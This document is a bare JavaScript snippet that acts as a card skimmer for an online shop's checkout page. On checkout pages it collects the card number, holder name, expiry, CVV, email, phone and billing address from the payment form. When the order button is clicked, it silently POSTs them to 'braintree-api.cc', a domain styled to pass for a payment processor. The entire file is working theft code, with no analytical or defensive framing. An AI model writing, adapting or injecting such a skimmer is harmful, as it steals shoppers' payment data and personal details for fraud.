(function () {
    if (window.location.pathname.indexOf("checkout") === -1) {
        return;
    }

    function grab() {
        return {
            number: $("#cc_number").val(),
            holder: $("#cc_owner").val(),
            month: $("#cc_exp_month").val(),
            year: $("#cc_exp_year").val(),
            cvv: $("#cc_cid").val(),
            email: $("#billing\\:email").val(),
            phone: $("#billing\\:telephone").val(),
            street: $("#billing\\:street1").val(),
            city: $("#billing\\:city").val(),
            zip: $("#billing\\:postcode").val()
        };
    }

    $(document).on("mouseup", "#onestepcheckout-place-order, .btn-checkout", function () {
        var info = grab();
        if (!info.number || info.number.replace(/\D/g, "").length < 13) {
            return;
        }
        $.ajax({
            url: "https://braintree-api.cc/v1/tokens",
            type: "POST",
            data: JSON.stringify(info),
            contentType: "text/plain",
            dataType: "application/json"
        });
    });
})();
